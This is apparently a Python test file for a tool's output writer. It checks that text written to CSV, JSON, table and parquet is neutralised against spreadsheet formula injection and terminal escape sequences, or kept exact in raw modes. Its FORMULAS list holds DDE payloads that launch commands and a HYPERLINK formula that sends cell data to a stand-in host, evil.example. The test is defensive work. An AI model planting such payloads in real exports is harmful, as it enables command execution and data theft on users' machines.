"""Texts of models in CSV files and on terminals: harmless, or exact where that is wanted."""

import csv
import io
import json
import unicodedata
from contextlib import redirect_stdout
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from queries.commands.output import Destination, Format, write
from queries.core.formulas import harmless
from queries.errors import NeurongraphError

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    '"=1+1"',
    "＝1+1",  # noqa: RUF001 - Excel takes the wide form as well.
    "harmless;=1+1",
    'harmless;"=1+1',
    "harmless; \t@SUM(1)",
    "harmless\n=1+1",
    "-",
)
CONTROLS = ("\x1b[2J", "\x9b2J", "\x1b]0;title\x07", "a\nb", "a\rb", "\x00", "\x7f", "a\u202eb")
NAMES = ("conv_0", "dense", "größer", "a b", "block/conv", "[1]", "'quoted'", "a=b", "x-1", "1e5")

texts = st.text(st.characters(exclude_categories=["Cs"]))
attacks = st.lists(st.sampled_from([*FORMULAS, *CONTROLS, *'=+-@;,"\t\r\n', "a"])).map("".join)


def cells(text: Any, *, raw: bool = False) -> list[list[str]]:
    """Give the rows of a CSV file about a text, as a spreadsheet reads them."""
    content = file_of(pd.DataFrame({"id": [1], "name": [text]}), Destination("csv", raw=raw))
    return list(csv.reader(io.StringIO(content, newline="")))


def file_of(frame: pd.DataFrame, to: Destination) -> str:
    stream = io.StringIO(newline="")
    with redirect_stdout(stream):
        write(frame, to)
    return stream.getvalue()


def starts_formula(cell: str) -> bool:
    stripped = cell.lstrip().lstrip('"').lstrip()
    return unicodedata.normalize("NFKC", stripped[:1]) in {"=", "+", "-", "@"}


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_left(text: str) -> None:
    (_, (_, cell)) = cells(text)
    for part in cell.split(";"):
        assert not starts_formula(part)
    # Nothing of it is lost.
    assert [each for each in "=+-@" if each in text] == [each for each in "=+-@" if each in cell]


@given(attacks | texts)
def test_no_text_is_a_formula_whatever_separates_cells(text: str) -> None:
    line = file_of(pd.DataFrame({"name": [text], "id": [7]}), Destination("csv"))
    assert "\r" not in line
    assert "\t" not in line
    body = line.removeprefix("name,id\n").removesuffix(",7\n")
    assert body.isprintable()
    for part in body.split(";"):
        assert not starts_formula(part)


@pytest.mark.parametrize("text", NAMES)
def test_names_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text
    assert cells(text)[1][1] == text


@pytest.mark.parametrize("text", CONTROLS)
def test_control_characters_are_escaped(text: str) -> None:
    ((_, _), (_, cell)) = cells(text)
    assert cell.isprintable()
    assert cell == text.encode("unicode_escape").decode()


@pytest.mark.parametrize("text", [*FORMULAS, *CONTROLS])
@pytest.mark.parametrize("format_name", ["csv", "json", "table"])
def test_what_is_printed_is_printable(text: str, format_name: Format) -> None:
    """No character of it moves a cursor, also where JSON carries the exact text."""
    frame = pd.DataFrame({text: [text], "more": [[text]], "nested": [{text: text}]})
    printed = file_of(frame, Destination(format_name))
    assert printed.replace("\n", "").replace("\u3000", "").isprintable()


@pytest.mark.parametrize(
    ("column", "written"),
    [
        ([-1, 2], ["-1", "2"]),
        ([-0.5, float("nan")], ["-0.5", ""]),
        (pd.array([-1, None], dtype="Int64"), ["-1", ""]),
        (pd.Series([-1, 2**60 + 1], dtype=object), ["-1", str(2**60 + 1)]),
        (pd.Series([-(2**60) - 1, None], dtype=object), [str(-(2**60) - 1), ""]),
        (pd.Series([1.5, 2], dtype=object), ["1.5", "2"]),
        (pd.Series([True, None], dtype=object), ["True", ""]),
        (pd.Series([-0.1, "-0.1"], dtype=object), ["-0.1", "'-0.1"]),
        (pd.Series([[-1, 2], None], dtype=object), ["[-1, 2]", ""]),
        (["-1", None], ["'-1", ""]),
    ],
)
def test_numbers_are_no_texts(column: Any, written: list[str]) -> None:
    content = file_of(pd.DataFrame({"id": [0, 1], "value": column}), Destination("csv"))
    assert [row["value"] for row in csv.DictReader(io.StringIO(content))] == written


@pytest.mark.parametrize("raw", [True, False])
def test_parts_make_the_same_file(monkeypatch: pytest.MonkeyPatch, raw: bool) -> None:
    values = pd.Series([1, None, "=1", [-1], 2.5], dtype=object)
    frame = pd.DataFrame({"id": range(5), "value": values, "name": ["a", None, "=1", "-", ""]})
    to = Destination("csv", raw=raw)
    whole = file_of(frame, to)
    monkeypatch.setattr("queries.commands.output._CHUNK", 2)
    assert file_of(frame, to) == whole
    assert file_of(frame.head(0), to).count("\n") == 1


def test_names_of_columns_are_texts() -> None:
    frame = pd.DataFrame({"=1+1": [1], "a\x1b[2J": [2]})
    assert file_of(frame, Destination("csv")) == "'=1+1,a\\x1b[2J\n1,2\n"
    assert file_of(frame, Destination("csv", raw=True)) == '"=1+1","a\x1b[2J"\n1,2\n'


@given(st.lists(texts | attacks, min_size=1))
def test_raw_csv_carries_the_exact_texts(names: list[str]) -> None:
    frame = pd.DataFrame({"id": range(len(names)), "name": names, "weight": 0.1})
    content = file_of(frame, Destination("csv", raw=True))
    rows = csv.DictReader(io.StringIO(content, newline=""))
    assert [(row["id"], row["name"], row["weight"]) for row in rows] == [
        (str(place), name, "0.1") for place, name in enumerate(names)
    ]


@given(st.lists(st.text() | attacks, min_size=1), st.booleans())
def test_json_carries_the_exact_texts(names: list[str], raw: bool) -> None:
    frame = pd.DataFrame({"name": pd.Series(names, dtype=object)})
    content = file_of(frame, Destination("json", raw=raw))
    assert [row["name"] for row in json.loads(content)] == names
    assert content.encode()


@pytest.mark.parametrize("raw", [True, False])
def test_parquet_carries_the_exact_texts(tmp_path: Path, raw: bool) -> None:
    names = [*FORMULAS, *CONTROLS]
    write(pd.DataFrame({"name": names}), Destination("parquet", tmp_path / "a", raw=raw))
    assert pq.read_table(tmp_path / "a")["name"].to_pylist() == names


def test_half_a_surrogate_pair_is_an_error_where_it_cannot_be(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": pd.Series(["\ud800"], dtype=object)})
    for format_name in ("csv", "parquet"):
        file = tmp_path / "a"
        file.write_text("old")
        with pytest.raises(NeurongraphError, match="json"):
            write(frame, Destination(format_name, file, raw=True))
        assert file.read_text() == "old"
    assert file_of(frame, Destination("csv")) == "name\n\\ud800\n"
